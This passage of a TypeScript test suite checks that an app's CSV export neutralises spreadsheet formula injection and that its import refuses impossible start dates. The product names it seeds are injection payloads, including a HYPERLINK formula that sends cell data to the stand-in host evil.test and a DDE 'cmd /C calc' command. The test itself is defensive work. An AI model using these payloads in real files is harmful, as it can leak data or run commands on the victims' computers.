      const a = await newOrg();
      const names = [
        `=HYPERLINK("http://evil.test/?x="&A1,"x") ${randomUUID().slice(0, 4)}`,
        `+1+cmd|' /C calc'!A0 ${randomUUID().slice(0, 4)}`,
        `-2+3 ${randomUUID().slice(0, 4)}`,
        `@SUM(1+1) ${randomUUID().slice(0, 4)}`,
      ];
      const ann = await customerOf(a.org.id);
      const made: string[] = [];
      for (const name of names) {
        const [row] = await t.db
          .insert(products)
          .values({
            orgId: a.org.id,
            name,
            type: 'recurring',
            schedule: 'month',
            priceMinor: 1_000,
            updatedAt: new Date(),
          })
          .returning();
        made.push(row!.name);
      }
      const done = await importFile(
        a.jar,
        made.map((n) => `${ann.email},"${n.replaceAll('"', '""')}",${external},`).join('\n'),
      );
      expect(done.status).toBe('done');
      const files = await exportOf(a.jar);
      const risky = files['product-assignments.csv']!.split('\r\n')
        .flatMap((line) => line.split(','))
        .map((cell) => cell.replace(/^"/, ''))
        .filter((cell) => /^[=+\-@\t\r]/.test(cell));
      expect(risky).toEqual([]);
    });
  });

  // ================================================================ dates

  describe('dates', () => {
    it('a start in year 0000, or a day that does not exist, is a bad row, not a failed import', async () => {
      const a = await newOrg();
      const monthly = await product(a);
      for (const start of ['0000-01-01', '2026-02-30', '2026-13-01', '+2026-01-01']) {
        const ann = await customerOf(a.org.id);
        const done = await importFile(a.jar, `${ann.email},${monthly.name},${external},${start}`);
        expect({ start, status: done.status }).toEqual({ start, status: 'refused' });
        expect(done.rowErrors.map((e) => e.message)).toEqual([importMessages.invalidDate]);
        expect(await subsOf(ann.id)).toEqual([]);
      }
    });
  });
});
